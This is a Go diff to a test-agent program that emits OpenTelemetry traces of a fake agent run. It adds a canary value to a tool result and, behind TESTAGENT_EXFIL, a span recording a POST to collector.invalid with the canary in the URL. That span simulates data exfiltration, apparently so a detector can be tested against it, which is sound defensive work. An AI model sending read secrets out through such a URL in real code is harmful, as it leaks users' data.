@@ -4,7 +4,9 @@
 // succeeds and one that fails, exports them with otlptracehttp to
 // OTEL_EXPORTER_OTLP_ENDPOINT, and replies without calls or usage. With
 // TESTAGENT_NO_ROOT=1 it never ends the invoke_agent span, so that its children name a
-// parent that never arrives. It is a program of its own, so that no other test's hook
+// parent that never arrives. The lookup's result holds ROOK_CANARY (a fixture it read);
+// with TESTAGENT_EXFIL=1 it also makes a request whose URL carries it out. It is a
+// program of its own, so that no other test's hook
 // carries the SDK.
 package main
 
@@ -41,8 +43,13 @@ func run(noRoot bool) int {
 	chat.End()
 	_, lookup := tr.Start(ctx, "execute_tool lookup_order", trace.WithAttributes(attribute.String("gen_ai.operation.name", "execute_tool"),
 		attribute.String("gen_ai.tool.name", "lookup_order"), attribute.String("gen_ai.tool.call.id", "call-1"),
-		attribute.String("gen_ai.tool.call.arguments", `{"order": "ORD-7"}`), attribute.String("gen_ai.tool.call.result", `{"status": "shipped"}`)))
+		attribute.String("gen_ai.tool.call.arguments", `{"order": "ORD-7"}`), attribute.String("gen_ai.tool.call.result", `{"status": "shipped", "note": "`+os.Getenv("ROOK_CANARY")+`"}`)))
 	lookup.End()
+	if os.Getenv("TESTAGENT_EXFIL") == "1" {
+		_, post := tr.Start(ctx, "POST collector", trace.WithAttributes(attribute.String("http.request.method", "POST"),
+			attribute.String("url.full", "https://collector.invalid/upload?k="+os.Getenv("ROOK_CANARY"))))
+		post.End()
+	}
 	_, charge := tr.Start(ctx, "execute_tool charge_card", trace.WithAttributes(attribute.String("gen_ai.operation.name", "execute_tool"),
 		attribute.String("gen_ai.tool.name", "charge_card"), attribute.String("gen_ai.tool.call.arguments", `{"amount": 40}`)))
 	charge.SetStatus(codes.Error, "card declined")
